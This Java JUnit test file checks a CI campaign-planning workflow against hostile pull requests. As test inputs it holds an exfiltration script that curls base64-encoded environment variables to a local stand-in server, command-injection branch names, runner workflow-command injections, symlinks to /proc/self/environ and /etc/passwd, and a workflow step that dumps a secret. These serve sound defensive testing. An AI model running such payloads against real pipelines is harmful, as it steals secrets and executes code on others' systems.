package dev.muster.ci.player;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.muster.ci.player.HubRepository.Edit;
import dev.muster.testing.RunnerCommands;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Pull requests that want the key, the token or a post, through the whole workflow. A stranger's server listens: nobody comes.
 * Nothing that is printed, kept or commented has the key or a token in it.
 */
@Tag("process")
@DisabledOnOs(OS.WINDOWS)
@DisplayNameGeneration(ReplaceUnderscores.class)
class HostilePullRequestTest {
    @TempDir
    private static Path folder;

    private static CampaignHub team;
    private static HttpServer stranger;
    private static final AtomicInteger visits = new AtomicInteger();

    @BeforeAll
    static void open() throws IOException {
        team = CampaignHub.in(folder);
        stranger = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        stranger.createContext("/", exchange -> {
            visits.incrementAndGet();
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        stranger.start();
    }

    @AfterAll
    static void close() {
        stranger.stop(0);
        team.close();
    }

    @BeforeEach
    void forget() {
        team.posts.sandbox().forgetRequests();
    }

    @AfterEach
    void nobody_was_asked_and_nothing_was_said() throws IOException {
        assertThat(visits).as("the stranger").hasValue(0);
        assertThat(team.posts.count()).isZero();
        assertThat(everythingThatAnybodyCanRead()).doesNotContain(team.key(), "t0k3n", encoded("x-access-token:ghs_"));
        try (Stream<Path> files = Files.walk(folder)) {
            assertThat(files.filter(file -> file.endsWith("pwned"))).isEmpty();
        }
    }

    private static String everythingThatAnybodyCanRead() {
        var said = new StringBuilder(team.player.everythingSaid());
        team.hub
                .discussion()
                .openTopics()
                .forEach(topic ->
                        team.hub.discussion().comments(topic.number()).forEach(comment -> said.append(comment.body())));
        return said.toString();
    }

    /** The part of it that no padding changes. */
    private static String encoded(String text) {
        return Base64.getEncoder()
                .encodeToString(text.getBytes(StandardCharsets.UTF_8))
                .substring(0, 20);
    }

    private static String url() {
        return "http://127.0.0.1:" + stranger.getAddress().getPort();
    }

    private static Edit project(String from, String to) {
        return Edit.file("campaigns/muster.yaml", team.projectText().replaceFirst(from, to.replace("STRANGER", url())));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            base_url | base_url: .* | base_url: STRANGER/api/v1
            proxy | api_key_env: | proxy: STRANGER\\n    api_key_env:
            ca_file | api_key_env: | ca_file: campaigns/mine.pem\\n    api_key_env:
            lock | branch: muster/production | branch: muster/production, remote: mine
            api_key_env | SEAX_API_KEY | AWS_SECRET_ACCESS_KEY
            api_key_file | api_key_env: SEAX_API_KEY | api_key_file: /proc/self/environ
            """)
    void what_decides_where_requests_go_stops_the_plan_and_is_told(String setting, String from, String to) {
        var request = team.hub.open(
                "move-" + setting.replace('_', '-'),
                project(from, to.replace("\\n", "\n"))
                        .and(CampaignHub.campaign(setting.replace('_', '-')))
                        .and(Edit.file("campaigns/mine.pem", "no certificate\n")));

        var run = team.planned(request);

        assertThat(run.result("plan").outputs()).isEmpty();
        assertThat(run.results()).as(run.log()).containsEntry("plan", "failure");
        assertThat(run.result("plan").log()).contains("workspace/of-another-revision", "exit code 3");
        assertThat(team.posts.sandbox().requests()).isEmpty();
    }

    @Test
    void the_token_of_the_job_is_no_key() {
        var request = team.hub.open(
                "input-token", project("SEAX_API_KEY", "INPUT_TOKEN").and(CampaignHub.campaign("input-token")));

        var run = team.opened(request);

        assertThat(run.results()).containsEntry("plan", "failure").containsEntry("result", "failure");
        assertThat(run.log()).contains("belongs to the pipeline");
        assertThat(team.comments(request)).singleElement().asString().contains(request.head());
        assertThat(team.posts.sandbox().requests()).isEmpty();
    }

    /** The base's own is what runs. */
    @Test
    void a_changed_action_and_a_changed_program_are_not_run() {
        var steals = "#!/bin/sh\ncurl -s " + url() + "?$(env | base64 -w0); touch \"$GITHUB_WORKSPACE/pwned\"; env\n";
        var request = team.hub.open("action", CampaignHub.campaign("action").and(at -> {
            for (var file : java.util.List.of(".github/actions/muster/run.sh", "muster")) {
                HubFiles.write(at.resolve(file), steals);
            }
            HubFiles.write(at.resolve(".github/actions/muster/action.yml"), """
                            name: muster
                            runs: {using: composite, steps: [{shell: bash, run: "touch pwned; env"}]}
                            """);
        }));

        var run = team.opened(request);

        assertThat(run.results()).as(run.log()).containsEntry("plan", "success").containsEntry("comment", "success");
        assertThat(team.comments(request)).singleElement().asString().contains("1 campaign, 6 messages");
    }

    @Test
    void a_branch_name_is_never_read_as_code() {
        var branch = "x\";touch${IFS}pwned;\"$(touch${IFS}pwned)`touch${IFS}pwned`";
        var run = team.opened(team.hub.open(branch, CampaignHub.campaign("branch")));

        assertThat(run.results()).as(run.log()).containsEntry("plan", "success").containsEntry("comment", "success");
    }

    @Test
    void what_a_campaign_says_is_no_command_to_the_runner() {
        var command =
                "::set-output name=has_sends::true\\n::stop-commands::x\\n##[add-path]/tmp\\r::set-env name=PATH::/tmp";
        var bad = "kind: campaign\nkey: commands\nname: \"Sale\\n" + command + "\"\nowner: \"" + command + "\"\n\""
                + command + "\": true\n";
        var run = team.opened(
                team.hub.open("commands", CampaignHub.campaign("good-one").and(Edit.file("campaigns/bad.yaml", bad))));

        assertThat(run.results()).as(run.log()).containsEntry("plan", "failure").containsEntry("comment", "success");
        assertThat(RunnerCommands.in(run.log())).isSubsetOf("error", "warning", "notice");
    }

    @Test
    void a_link_shows_nothing_of_the_machine() {
        var request = team.hub.open("links", CampaignHub.campaign("links").and(at -> {
            Files.createSymbolicLink(at.resolve("campaigns/environment.yaml"), Path.of("/proc/self/environ"));
            Files.createSymbolicLink(at.resolve("campaigns/token.yaml"), Path.of("../.git/config"));
            Files.createSymbolicLink(at.resolve("campaigns/users.yaml"), Path.of("/etc/passwd"));
        }));

        var run = team.planned(request);

        assertThat(run.results()).as(run.log()).containsEntry("plan", "failure");
        assertThat(everythingThatAnybodyCanRead()).doesNotContain("SEAX_API_KEY=", "root:", "extraheader");
    }

    /** Who may write a branch can change what runs for it; so a person is asked before the key is given. */
    @Test
    void a_workflow_that_was_changed_waits_for_a_person_before_it_gets_the_key() {
        team.environment("muster-plan", true);
        try {
            var request =
                    team.hub.open("workflow", CampaignHub.campaign("workflow").and(at -> {
                        var file = at.resolve(".github/workflows/plan.yml");
                        HubFiles.write(file, HubFiles.read(file).replace("      - id: muster\n", """
                                      - run: echo "$SEAX_API_KEY" | tee pwned
                                        env: {SEAX_API_KEY: "${{ secrets.SEAX_API_KEY }}"}
                                      - id: muster
                                """));
                    }));

            var run = team.opened(request);

            assertThat(run.waitsFor()).containsExactly("muster-plan");
            run.reject("muster-plan");
            assertThat(run.results()).containsEntry("plan", "failure");
        } finally {
            team.environment("muster-plan", false);
        }
    }
}
